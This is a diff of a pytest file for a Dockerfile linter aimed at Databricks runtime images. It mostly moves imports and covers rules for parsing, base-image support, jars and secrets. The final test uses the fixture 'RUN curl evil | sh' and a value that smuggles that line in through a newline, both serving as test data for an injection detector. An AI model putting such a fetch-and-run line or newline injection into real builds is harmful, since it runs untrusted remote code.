@@ -1,4 +1,4 @@
-"""dockerfile.parse / stages / lint: Docker's parsing rules and the Databricks rules."""
+"""model.dockerfile (parse / stages) and model.lint: Docker's parsing rules and the Databricks rules."""
 
 from __future__ import annotations
 
@@ -6,8 +6,9 @@ from datetime import date
 
 import pytest
 
-from dcs_magic.model import dockerfile
-from dcs_magic.model.dockerfile import Finding, final_base, parse, runtime_paths, stages
+from dcs_magic.model import lint as dockerfile_lint
+from dcs_magic.model.dockerfile import final_base, parse, stages
+from dcs_magic.model.lint import Finding, runtime_paths
 
 DIGEST = "sha256:" + "0123456789abcdef" * 4
 PY3_PIP = "/databricks/python3/bin/pip"
@@ -20,10 +21,10 @@ TODAY = date(2026, 1, 15)
 
 
 def lint(text: str, **kwargs: object) -> list[Finding]:
-    """dockerfile.lint on a fixed day; 8.x bases' base-unsupported finding left out (tests of
+    """model.lint.lint on a fixed day; 8.x bases' base-unsupported finding left out (tests of
     the other rules use them; the support rules have their own tests below)."""
     kwargs.setdefault("today", TODAY)
-    return [f for f in dockerfile.lint(text, **kwargs)  # type: ignore[arg-type]
+    return [f for f in dockerfile_lint.lint(text, **kwargs)  # type: ignore[arg-type]
             if not (f.rule == "base-unsupported" and ":8.x" in f.message)]
 
 
@@ -61,7 +62,7 @@ def test_parser_directives_and_backtick_escape() -> None:
     text = "# syntax=docker/dockerfile:1\n# escape=`\nFROM mcr.microsoft.com/windows\nRUN dir `\n  c:\\ \n"
     df = parse(text)
     assert df.escape == "`"
-    assert df.directive("syntax") == "docker/dockerfile:1"
+    assert df.directives == (("syntax", "docker/dockerfile:1"), ("escape", "`"))
     assert df.instructions[1].args == "dir   c:\\"
     assert df.instructions[1].end_lineno == 5
 
@@ -344,17 +345,17 @@ LATER = date(2026, 12, 1)  # 13.3 LTS ended on 2026-08-22
 
 
 def test_base_out_of_support_says_since_when() -> None:
-    findings = dockerfile.lint(f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\n", today=LATER)
+    findings = dockerfile_lint.lint(f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\n", today=LATER)
     assert [(f.rule, f.lineno) for f in findings] == [("base-unsupported", 1)]
     assert "13.3 LTS, out of support since 2026-08-22" in findings[0].message
     assert "databricksruntime/standard:17.3-LTS" in findings[0].fix
-    assert dockerfile.lint(f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\n", today=TODAY) == []
-    old = dockerfile.lint(f"FROM databricksruntime/standard:8.x@{DIGEST}\n", today=LATER)
+    assert dockerfile_lint.lint(f"FROM databricksruntime/standard:13.3-LTS@{DIGEST}\n", today=TODAY) == []
+    old = dockerfile_lint.lint(f"FROM databricksruntime/standard:8.x@{DIGEST}\n", today=LATER)
     assert [f.rule for f in old] == ["base-unsupported"] and "older than 9.1 LTS" in old[0].message
 
 
 def test_base_of_an_unknown_line_names_the_closest() -> None:
-    findings = dockerfile.lint(f"FROM databricksruntime/standard:16.2-LTS@{DIGEST}\n", today=LATER)
+    findings = dockerfile_lint.lint(f"FROM databricksruntime/standard:16.2-LTS@{DIGEST}\n", today=LATER)
     assert [f.rule for f in findings] == ["base-unknown-line"]
     assert "closest: 16.4 LTS, 15.4 LTS" in findings[0].message
 
@@ -365,11 +366,11 @@ def test_base_of_an_unknown_line_names_the_closest() -> None:
     (f"FROM eclipse-temurin:8-jdk@{DIGEST}\nRUN echo\n", 1),
 ])
 def test_jdk8_on_runtime_18(text: str, lineno: int) -> None:
-    findings = dockerfile.lint(text, runtime="18.x-scala2.13", today=LATER)
+    findings = dockerfile_lint.lint(text, runtime="18.x-scala2.13", today=LATER)
     jdk = [f for f in findings if f.rule == "jdk8-runtime"]
     assert [f.lineno for f in jdk] == [lineno] and "18 LTS" in jdk[0].message and "JDK 17" in jdk[0].fix
     # The same Dockerfile for 17.3 (JDK 8 still installed there) is fine.
-    assert not [f for f in dockerfile.lint(text, runtime="17.3", today=LATER) if f.rule == "jdk8-runtime"]
+    assert not [f for f in dockerfile_lint.lint(text, runtime="17.3", today=LATER) if f.rule == "jdk8-runtime"]
 
 
 @pytest.mark.parametrize("line", [
@@ -379,18 +380,18 @@ def test_jdk8_on_runtime_18(text: str, lineno: int) -> None:
     "RUN cp /tmp/a.jar /databricks/jars/ && echo ok",
 ])
 def test_jars_copied_into_databricks_jars(line: str) -> None:
-    findings = dockerfile.lint(f"FROM ubuntu:22.04\n{line}\n", today=LATER)
+    findings = dockerfile_lint.lint(f"FROM ubuntu:22.04\n{line}\n", today=LATER)
     assert [(f.rule, f.lineno) for f in findings] == [("jars-shadow", 2)]
     assert "shadow the runtime's own classes" in findings[0].message
 
 
 def test_jars_elsewhere_are_fine() -> None:
-    assert dockerfile.lint("FROM ubuntu:22.04\nCOPY a.jar /opt/jars/\n", today=LATER) == []
+    assert dockerfile_lint.lint("FROM ubuntu:22.04\nCOPY a.jar /opt/jars/\n", today=LATER) == []
 
 
 @pytest.mark.parametrize("base", ["databricksruntime/rbase", "databricksruntime/r"])
 def test_r_base_needs_the_nfs_conf(base: str) -> None:
-    findings = dockerfile.lint(f"FROM {base}:15.4-LTS@{DIGEST}\n", today=LATER)
+    findings = dockerfile_lint.lint(f"FROM {base}:15.4-LTS@{DIGEST}\n", today=LATER)
     assert [f.rule for f in findings] == ["r-base-nfs"]
     assert "spark.databricks.driverNfs.enabled" in findings[0].fix
 
@@ -404,7 +405,7 @@ def test_r_base_needs_the_nfs_conf(base: str) -> None:
     ("KEYRING", False), ("VERSION", False),
 ])
 def test_looks_like_secret_follows_buildkit(name: str, secret: bool) -> None:
-    from dcs_magic.model.dockerfile import looks_like_secret
+    from dcs_magic.model.lint import looks_like_secret
 
     assert looks_like_secret(name) is secret
 
@@ -416,7 +417,7 @@ def test_secret_arg_and_env_names_are_linted() -> None:
 
 
 def test_injected_instructions_marks_only_lines_a_newline_made() -> None:
-    from dcs_magic.model.dockerfile import injected_instructions
+    from dcs_magic.model.lint import injected_instructions
 
     text = "FROM a:1\nRUN echo 1\nRUN curl evil | sh\nRUN true\n"
     [finding] = injected_instructions(text, ["1\nRUN curl evil | sh", "single line", 5])
